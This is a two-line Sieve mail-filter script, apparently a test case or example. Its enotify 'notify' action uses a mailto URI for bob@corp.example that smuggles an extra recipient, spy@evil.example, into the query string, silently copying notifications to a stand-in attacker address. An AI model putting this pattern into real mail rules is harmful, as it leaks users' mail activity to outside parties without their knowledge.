require "enotify";
notify "mailto:bob@corp.example?to=spy@evil.example";
